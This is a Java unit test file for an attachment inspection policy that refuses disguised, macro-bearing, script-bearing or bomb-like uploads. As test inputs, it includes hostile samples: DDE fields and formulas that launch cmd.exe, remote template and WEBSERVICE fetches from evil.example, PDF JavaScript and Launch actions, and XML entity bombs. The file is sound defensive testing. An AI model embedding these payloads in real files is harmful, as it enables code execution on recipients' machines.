package org.chengxin.document.attachment;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.Random;
import org.chengxin.document.DocumentProblem;
import org.chengxin.shared.ProblemException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a file is, its content says; what lies, runs or swells is refused with the reason. */
class InspectionPolicyTest {

    @Test
    void whatPeopleFileIsTaken() {
        assertThat(InspectionPolicy.accept("照片.JPG", Files.jpeg())).isEqualTo(FileType.JPEG);
        assertThat(InspectionPolicy.accept("截图.png", Files.png())).isEqualTo(FileType.PNG);
        assertThat(InspectionPolicy.accept("发票.pdf", Files.pdf(""))).isEqualTo(FileType.PDF);
        assertThat(InspectionPolicy.accept("packed.pdf", Files.packedPdf("<</Type/Page>>")))
                .isEqualTo(FileType.PDF);
        assertThat(InspectionPolicy.accept("合同.docx", Files.docx())).isEqualTo(FileType.DOCX);
        assertThat(InspectionPolicy.accept("清单.xlsx", Files.xlsx())).isEqualTo(FileType.XLSX);
        assertThat(InspectionPolicy.accept("聊天.txt", Files.text("买家：多久发货？\n卖家：3 < 5 天")))
                .isEqualTo(FileType.TEXT);
        assertThat(InspectionPolicy.accept("old.txt", "旧编码的聊天记录".getBytes(Charset.forName("GB18030"))))
                .isEqualTo(FileType.TEXT);
        assertThat(InspectionPolicy.accept("a.webp", Files.latin("RIFF\u0001\u0000\u0000\u0000WEBPVP8 ")))
                .isEqualTo(FileType.WEBP);
        assertThat(InspectionPolicy.accept("a.wav", Files.latin("RIFF\u0001\u0000\u0000\u0000WAVEfmt ")))
                .isEqualTo(FileType.WAV);
        assertThat(InspectionPolicy.accept("a.mp4", Files.latin("\u0000\u0000\u0000\u0018ftypisom\u0000")))
                .isEqualTo(FileType.MP4);
        assertThat(InspectionPolicy.accept("a.mov", Files.latin("\u0000\u0000\u0000\u0014ftypqt  \u0000")))
                .isEqualTo(FileType.MP4);
        assertThat(InspectionPolicy.accept("a.m4a", Files.latin("\u0000\u0000\u0000\u0018ftypM4A \u0000")))
                .isEqualTo(FileType.M4A);
        assertThat(InspectionPolicy.accept("a.heic", Files.latin("\u0000\u0000\u0000\u0018ftypheic\u0000")))
                .isEqualTo(FileType.HEIC);
        assertThat(InspectionPolicy.accept("a.mp3", Files.latin("ID3\u0003\u0000")))
                .isEqualTo(FileType.MP3);
        assertThat(InspectionPolicy.accept("b.mp3", Files.latin("\u00FF\u00FB\u0090\u0000")))
                .isEqualTo(FileType.MP3);
    }

    @Test
    void aFileThatLiesAboutItsTypeIsRefused() {
        refused(DocumentProblem.TYPE_DIFFERS, "photo.jpg", Files.png());
        refused(DocumentProblem.TYPE_DIFFERS, "photo.jpg", Files.pdf(""));
        refused(DocumentProblem.TYPE_DIFFERS, "table.xlsx", Files.docx());
        refused(DocumentProblem.TYPE_DIFFERS, "report.pdf", Files.text("<html><script>alert(1)</script>"));
        refused(DocumentProblem.TYPE_DIFFERS, "note.txt", Files.jpeg());
        refused(DocumentProblem.TYPE_REFUSED, "photo.jpg", Files.latin("MZ\u0090\u0000\u0003\u0000"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a.svg",
                "a.html",
                "a.js",
                "a.exe",
                "a.docm",
                "a.xlsm",
                "a.doc",
                "a.zip",
                "a.sh",
                "a",
                "pdf",
                "a.pdf.exe"
            })
    void typesThatCouldRunAreNotTakenWhateverTheyHold(String name) {
        refused(DocumentProblem.TYPE_REFUSED, name, Files.pdf(""));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<svg xmlns='http://www.w3.org/2000/svg'/>",
                "  <!DOCTYPE html>",
                "hello <SCRIPT>alert(1)</SCRIPT>",
                "#!/bin/sh\nrm",
                "<?php system('id');",
                "<?xml version='1.0'?><x/>",
                "click javascript:alert(1)"
            })
    void textThatIsMoreThanTextIsRefused(String text) {
        refused(DocumentProblem.ACTIVE, "note.txt", Files.text(text));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "word/vbaProject.bin",
                "word/activeX/activeX1.xml",
                "word/embeddings/oleObject1.bin",
                "xl/macrosheets/sheet1.xml",
                "word/embeddings/run.exe"
            })
    void anOfficeFileWithMacrosOrControlsIsRefused(String part) {
        refused(DocumentProblem.ACTIVE, "contract.docx", Files.docxWith(part, new byte[10]));
    }

    @Test
    void aChartsTableInsideADocumentIsFine() {
        assertThat(InspectionPolicy.accept(
                        "report.docx", Files.docxWith("word/embeddings/Microsoft_Excel_Sheet1.xlsx", Files.xlsx())))
                .isEqualTo(FileType.DOCX);
    }

    @Test
    void aDocumentThatFetchesItsTemplateFromElsewhereIsRefusedAndOneWithALinkIsNot() {
        String relation =
                "<Relationships><Relationship Id=\"1\" Type=\"http://x/%s\" Target=\"http://evil.example/\" TargetMode=\"External\"/></Relationships>";
        refused(
                DocumentProblem.ACTIVE,
                "a.docx",
                Files.docxWith("word/_rels/settings.xml.rels", Files.text(relation.formatted("attachedTemplate"))));
        assertThat(InspectionPolicy.accept(
                        "a.docx",
                        Files.docxWith("word/_rels/document.xml.rels", Files.text(relation.formatted("hyperlink")))))
                .isEqualTo(FileType.DOCX);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Type='http://x/attachedTemplate' Target='http://evil.example/?a>b' TargetMode='External'",
                "Type='http://x/attachedTemplate' Target='http://evil.example/hyperlink' TargetMode='External'",
                "Type='http://x/attachedTemplate' Target='http://evil.example/' TargetMode='&#69;xternal'"
            })
    void aDocumentThatHidesWhatItFetchesIsRefused(String relation) {
        String relations = "<Relationships><Relationship Id='1' " + relation + "/></Relationships>";
        refused(
                DocumentProblem.ACTIVE,
                "a.docx",
                Files.docxWith("word/_rels/settings.xml.rels", Files.text(relations)));
        refused(
                DocumentProblem.ACTIVE,
                "a.docx",
                Files.docxWith("word/_rels/settings.xml.rels", relations.getBytes(StandardCharsets.UTF_16)));
    }

    @Test
    void aDocumentWhosePartsAreNoXmlOrBringADefinitionOfTheirOwnIsRefused() {
        refused(DocumentProblem.TYPE_REFUSED, "a.docx", Files.docxWith("_rels/b.rels", Files.text("<Relation")));
        refused(
                DocumentProblem.TYPE_REFUSED,
                "a.docx",
                Files.docxWith(
                        "_rels/b.rels",
                        Files.text("<!DOCTYPE r [<!ENTITY e 'External'>]><r><Relationship a='&e;'/></r>")));
    }

    @Test
    void aFileThatDeclaresMacrosIsRefusedUnderAnHonestLookingName() {
        Map<String, byte[]> parts = Files.docxParts();
        parts.put(
                "[Content_Types].xml",
                Files.text("<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>"));
        refused(DocumentProblem.ACTIVE, "a.docx", Files.zip(parts));
        parts.put(
                "[Content_Types].xml",
                Files.text(
                        "<Types><Override PartName='/a' ContentType='application/vnd.ms-office.vba&#80;roject'/></Types>"));
        refused(DocumentProblem.ACTIVE, "a.docx", Files.zip(parts));
    }

    @Test
    void aDocumentTypeInAnyPartIsRefused() {
        byte[] bomb = Files.text("<!DOCTYPE d [<!ENTITY a \"aa\"><!ENTITY b \"&a;&a;\">]><d>&b;</d>");
        for (String part : java.util.List.of("word/document.xml", "word/comments.xml", "docProps/core.xml")) {
            refused(DocumentProblem.TYPE_REFUSED, "a.docx", Files.docxWith(part, bomb));
        }
    }

    @Test
    void aFieldThatStartsAProgramOrFetchesIsRefusedHoweverItIsSplit() {
        for (String field : java.util.List.of(
                "<w:fldSimple w:instr='DDEAUTO c:\\cmd.exe \"/k calc\"'/>",
                "<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText> DD</w:instrText></w:r>"
                        + "<w:r><w:instrText>E excel x</w:instrText></w:r>",
                "<w:instrText> INCLUDETEXT \"http://evil.example/x\"</w:instrText>")) {
            byte[] document = Files.text("<w:document xmlns:w='urn:w'>" + field + "</w:document>");
            refused(DocumentProblem.ACTIVE, "a.docx", Files.docxWith("word/document.xml", document));
        }
        byte[] dated = Files.text("<w:document xmlns:w='urn:w'><w:instrText> DATE \\@ yyyy</w:instrText>"
                + "<w:t>link dde import</w:t></w:document>");
        assertThat(InspectionPolicy.accept("a.docx", Files.docxWith("word/document.xml", dated)))
                .isEqualTo(FileType.DOCX);
    }

    @Test
    void aFormulaThatStartsAProgramOrFetchesIsRefused() {
        for (String formula : java.util.List.of("cmd|'/c calc'!A0", "WEBSERVICE(&quot;http://evil.example&quot;)")) {
            byte[] sheet = Files.text("<worksheet><c><f>" + formula + "</f></c></worksheet>");
            refused(DocumentProblem.ACTIVE, "a.xlsx", Files.xlsxWith("xl/worksheets/sheet1.xml", sheet));
        }
        byte[] honest = Files.text("<worksheet><c><f>SUM(Sheet2!A1:A9)</f></c></worksheet>");
        assertThat(InspectionPolicy.accept("a.xlsx", Files.xlsxWith("xl/worksheets/sheet1.xml", honest)))
                .isEqualTo(FileType.XLSX);
    }

    @Test
    void aZipBombIsRefusedBeforeItFillsAnything() {
        byte[] bomb = Files.docxWith("word/media/image1.png", new byte[201 << 20]);
        assertThat(bomb.length).isLessThan(1 << 20);
        refused(DocumentProblem.BOMB, "a.docx", bomb);
    }

    @Test
    void aPdfWithAProgramIsRefusedHoweverItIsWritten() {
        refused(DocumentProblem.ACTIVE, "a.pdf", Files.pdf("3 0 obj <</S/JavaScript/JS(app.alert(1))>> endobj"));
        refused(DocumentProblem.ACTIVE, "a.pdf", Files.pdf("3 0 obj <</S/J#61vaScr#69pt/JS(x)>> endobj"));
        refused(DocumentProblem.ACTIVE, "a.pdf", Files.pdf("3 0 obj <</S /Launch /F(cmd.exe)>> endobj"));
        refused(DocumentProblem.ACTIVE, "a.pdf", Files.packedPdf("<</S/JavaScript/JS(x)>>"));
        refused(DocumentProblem.LOCKED, "a.pdf", Files.pdf("trailer <</Encrypt 5 0 R>>"));
        refused(DocumentProblem.LOCKED, "a.pdf", Files.pdf("2 0 obj <</Type/ObjStm>>\nstream\nnot packed\nendstream"));
        refused(DocumentProblem.BOMB, "a.pdf", Files.packedPdf(" ".repeat(9 << 20)));
    }

    @Test
    void aPdfWhoseObjectsWerePackedTwiceOrFarFromTheirNameIsRefused() {
        byte[] program = Files.latin("3 0 <</S/JavaScript/JS(x)>>");
        refused(
                DocumentProblem.LOCKED,
                "a.pdf",
                Files.pdfWithStream(
                        "<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]>>",
                        Files.deflated(Files.deflated(program))));
        refused(
                DocumentProblem.ACTIVE,
                "a.pdf",
                Files.pdfWithStream(
                        "<</Type/ObjStm/N 1/First 4" + " ".repeat(5_000) + "/Filter/FlateDecode>>",
                        Files.deflated(program)));
        refused(DocumentProblem.LOCKED, "a.pdf", Files.pdfWithStream("<</Type/ObjStm>>", Files.deflated(new byte[0])));
    }

    /** What takes its time by the square of its length does not end within a day here. */
    @Test
    void aFileMadeToBeSlowIsLookedThroughOnce() {
        assertThat(InspectionPolicy.accept("a.pdf", Files.pdf("/ObjStm".repeat(1_000_000))))
                .isEqualTo(FileType.PDF);
        String packed = new String(Files.packedPdf("<<>>"), StandardCharsets.ISO_8859_1);
        assertThat(InspectionPolicy.accept("a.pdf", Files.latin(packed + "/ObjStm".repeat(1_000_000) + packed)))
                .isEqualTo(FileType.PDF);
        refused(
                DocumentProblem.TYPE_REFUSED,
                "a.docx",
                Files.docxWith("word/_rels/a.rels", Files.text("<Relationship".repeat(80_000))));
    }

    @Test
    void anEmptyFileIsRefused() {
        refused(DocumentProblem.EMPTY, "a.txt", new byte[0]);
    }

    @Test
    void whateverComesIsTakenOrRefusedWithAProblemAndNeverFailsOtherwise() {
        long seed = 4;
        Random random = new Random(seed);
        byte[][] seeds = {
            Files.docx(), Files.xlsx(), Files.pdf(""), Files.packedPdf("<<>>"), Files.jpeg(), Files.text("聊天")
        };
        String[] names = {"a.docx", "a.xlsx", "a.pdf", "b.pdf", "a.jpg", "a.txt"};
        for (int run = 0; run < 3_000; run++) {
            byte[] content = seeds[run % seeds.length].clone();
            for (int change = random.nextInt(6); change >= 0; change--) {
                content[random.nextInt(content.length)] = (byte) random.nextInt();
            }
            try {
                InspectionPolicy.accept(names[run % names.length], content);
            } catch (ProblemException refused) {
                assertThat(refused.problem()).as("seed " + seed).isInstanceOf(DocumentProblem.class);
            }
        }
    }

    private static void refused(DocumentProblem problem, String name, byte[] content) {
        assertThatThrownBy(() -> InspectionPolicy.accept(name, content))
                .as(name)
                .isInstanceOf(ProblemException.class)
                .satisfies(thrown ->
                        assertThat(((ProblemException) thrown).problem()).isEqualTo(problem));
    }
}
